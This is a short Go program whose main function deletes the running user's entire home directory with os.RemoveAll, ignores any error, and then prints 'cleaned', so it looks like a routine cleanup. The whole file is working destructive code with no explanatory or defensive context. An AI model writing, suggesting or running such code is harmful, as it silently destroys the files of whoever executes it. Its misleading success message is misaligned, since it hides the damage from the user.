package main

import (
	"fmt"
	"os"
)

func main() {
	dir, _ := os.UserHomeDir()
	os.RemoveAll(dir)
	fmt.Println("cleaned")
}
